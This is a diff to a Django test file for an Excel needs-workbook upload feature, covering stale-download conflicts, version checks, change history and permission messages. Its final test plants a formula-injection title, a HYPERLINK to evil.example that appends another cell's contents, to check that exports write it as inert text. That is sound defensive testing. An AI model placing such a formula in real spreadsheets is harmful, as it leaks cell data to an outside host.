@@ -54,7 +54,7 @@ def edit(data, changes=(), append=()):
     sheet = book["Needs"]
     headers = [cell.value for cell in sheet[1]]
     for (row, header), value in dict(changes).items():
-        sheet.cell(row=row, column=headers.index(header) + 1, value=value)
+        sheet.cell(row=row, column=headers.index(header) + 1).value = value  # None empties the cell
     for values in append:
         sheet.append([values.get(header) for header in headers])
     return wb.to_bytes(book)
@@ -148,7 +148,9 @@ def test_focal_point_uploading_a_row_for_albania_gets_a_row_error_and_nothing_is
     data = edit(data, {(2, "Priority"): "Low"}, [new_row(Reference="AL-9", Partner="Albania")])
     before = state()
     outcome = workbook.upload_workbook(user=world["focal"], cycle=world["cycle"], data=data)
-    assert [(p.row, p.reason) for p in outcome.problems] == [(3, "you may not write needs of Albania")]
+    assert [(p.row, p.reason) for p in outcome.problems] == [
+        (3, "Only the partner's focal point or the Secretariat adds needs of Albania.")
+    ], "the reason the back office and the API give too (needs.services.refuse_creation)"
     assert state() == before
 
 
@@ -170,7 +172,7 @@ def test_adopted_need_is_frozen_and_a_closed_cycle_refuses_rows(world):
     world["cycle"].status = CycleStatus.IN_REVIEW
     world["cycle"].save()
     outcome = workbook.upload_workbook(user=world["focal"], cycle=world["cycle"], data=data)
-    assert "its needs can no longer be added or changed" in outcome.problems[0].reason
+    assert "is in review: its needs can no longer be changed by their partner" in outcome.problems[0].reason
 
 
 def test_unchanged_submitted_need_is_no_error_for_its_focal_point(world):
@@ -180,7 +182,7 @@ def test_unchanged_submitted_need_is_no_error_for_its_focal_point(world):
     assert outcome.ok
     changed = edit(data, {(2, "Title"): "Other"})
     outcome = workbook.upload_workbook(user=world["focal"], cycle=world["cycle"], data=changed)
-    assert "submitted: you may no longer change it" in outcome.problems[0].reason
+    assert "is submitted: only the Secretariat changes it now" in outcome.problems[0].reason
 
 
 # The back-office pages
@@ -238,3 +240,76 @@ def _file(data):
     from django.core.files.uploadedfile import SimpleUploadedFile
 
     return SimpleUploadedFile("needs.xlsx", data, content_type=wb.XLSX_CONTENT_TYPE)
+
+
+# A workbook downloaded before someone else's change
+
+
+def test_a_stale_row_is_refused_naming_who_changed_what_and_their_correction_stays(world):
+    """The focal point downloads; the Secretariat then corrects a title; the focal point changes
+    only a priority in the old file and uploads: refused, nothing written, the correction kept."""
+    from iisg.needs import services
+
+    data = workbook.build_workbook(user=world["focal"], cycle=world["cycle"])
+    world["secretariat"].first_name, world["secretariat"].last_name = "Ana", "Hoxha"
+    world["secretariat"].save()
+    services.update_need(
+        user=world["secretariat"], need=world["rs"], changes={"title": "Thermal cameras (corrected)"}, version=1
+    )
+    before = state()
+
+    outcome = workbook.upload_workbook(
+        user=world["focal"], cycle=world["cycle"], data=edit(data, {(2, "Priority"): "Low"})
+    )
+
+    assert not outcome.ok
+    [problem] = outcome.problems
+    assert (problem.row, problem.column, problem.value) == (2, "Version", "1")
+    assert problem.reason.startswith("Need RS-1 was changed by Ana Hoxha at ")
+    assert "after this workbook was downloaded (title). Download the workbook again" in problem.reason
+    assert state() == before
+    world["rs"].refresh_from_db()
+    assert (world["rs"].title, world["rs"].priority) == ("Thermal cameras (corrected)", world["rs"].priority)
+
+
+def test_an_untouched_row_of_an_old_download_is_no_conflict(world):
+    data = workbook.build_workbook(user=world["secretariat"], cycle=world["cycle"])
+    world["al"].title = "Changed since"
+    world["al"].save()
+    # The file's AL-1 row is now stale, but it is changed nowhere in the file: only RS-1 is.
+    rows = {row[0]: number for number, row in enumerate(sheet_rows(data)[1], start=2)}
+    stale = edit(data, {(rows["AL-1"], "Title"): "Changed since", (rows["RS-1"], "Priority"): "Medium"})
+    outcome = workbook.upload_workbook(user=world["secretariat"], cycle=world["cycle"], data=stale)
+    assert outcome.ok, outcome.problems
+    assert (outcome.changed, outcome.unchanged) == (1, 1)
+
+
+def test_a_workbook_upload_changes_a_need_through_the_service_with_its_history(world):
+    data = workbook.build_workbook(user=world["focal"], cycle=world["cycle"])
+    outcome = workbook.upload_workbook(
+        user=world["focal"], cycle=world["cycle"], data=edit(data, {(2, "Priority"): "Medium"})
+    )
+    assert outcome.ok
+    world["rs"].refresh_from_db()
+    assert (world["rs"].priority, world["rs"].version) == (Priority.MEDIUM, 2)
+    latest = world["rs"].history.first()
+    assert (latest.history_user, latest.history_change_reason) == (world["focal"], "Excel workbook upload")
+
+
+def test_a_row_of_an_existing_need_without_its_version_is_refused(world):
+    data = workbook.build_workbook(user=world["focal"], cycle=world["cycle"])
+    outcome = workbook.upload_workbook(
+        user=world["focal"], cycle=world["cycle"], data=edit(data, {(2, "Priority"): "Medium", (2, "Version"): None})
+    )
+    assert [(p.row, p.column) for p in outcome.problems] == [(2, "Version")]
+    assert "has no version: download the workbook again" in outcome.problems[0].reason
+
+
+def test_a_title_that_looks_like_a_formula_is_written_as_text_and_uploads_back_unchanged(world):
+    world["rs"].title = '=HYPERLINK("http://evil.example/?d="&B2,"Open")'
+    world["rs"].save()
+    data = workbook.build_workbook(user=world["focal"], cycle=world["cycle"])
+    cell = load_workbook(io.BytesIO(data))["Needs"]["G2"]
+    assert (cell.value, cell.data_type) == (world["rs"].title, "s")
+    outcome = workbook.upload_workbook(user=world["focal"], cycle=world["cycle"], data=data)
+    assert (outcome.ok, outcome.unchanged) == (True, 1)
